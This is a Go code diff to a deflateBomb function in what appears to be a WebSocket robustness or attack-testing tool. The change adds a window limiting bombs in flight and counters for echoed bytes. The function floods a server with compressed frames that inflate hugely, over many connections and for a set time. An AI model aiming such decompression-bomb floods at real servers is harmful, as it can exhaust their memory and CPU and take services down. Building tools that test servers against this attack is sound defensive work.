@@ -273,7 +273,7 @@ func deflateBomb(e *attackEnv) error {
 	payload := deflateBombPayload(e.o.BombInflated)
 	e.set("frame_bytes", len(payload))
 	end := time.Now().Add(e.o.BombFor)
-	var sent, echoes, reconnects atomic.Int64
+	var sent, echoes, echoBytes, echoWire, reconnects atomic.Int64
 	var notNegotiated atomic.Bool
 	var wg sync.WaitGroup
 	for range e.o.BombConns {
@@ -297,17 +297,42 @@ func deflateBomb(e *attackEnv) error {
 				}
 				frame := w.frame(2, true, payload)
 				stop := make(chan struct{})
+				var window chan struct{} // a token per bomb in flight
+				if e.o.BombWindow > 0 {
+					window = make(chan struct{}, e.o.BombWindow)
+				}
 				go func() {
 					defer close(stop)
-					// Read and discard the echoes so that the server
-					// does real work rather than waiting on backpressure.
-					kind := w.readUntilClose(end, true, func(int64) { echoes.Add(1) })
+					// Read the echoes whole (inflated when the server
+					// compresses them) so that the server does real work
+					// rather than waiting on backpressure, and servers
+					// that echo compressed or plain cost the client alike.
+					kind := w.readEchoes(end, true, func(n, wire int64) {
+						echoes.Add(1)
+						echoBytes.Add(n)
+						echoWire.Add(wire)
+						if window != nil {
+							select {
+							case <-window:
+							default:
+							}
+						}
+					})
 					if kind != "open" {
 						e.closed(kind)
 					}
 				}()
 			send:
 				for time.Now().Before(end) {
+					if window != nil {
+						select {
+						case window <- struct{}{}:
+						case <-stop:
+							break send
+						case <-time.After(time.Until(end)):
+							break send
+						}
+					}
 					if w.write(frame, end) != nil {
 						break
 					}
@@ -329,6 +354,8 @@ func deflateBomb(e *attackEnv) error {
 	}
 	e.set("frames_sent", sent.Load())
 	e.set("echoes_read", echoes.Load())
+	e.set("echo_mib_read", echoBytes.Load()>>20)
+	e.set("echo_wire_mib", echoWire.Load()>>20)
 	e.set("reconnects", reconnects.Load())
 	return nil
 }
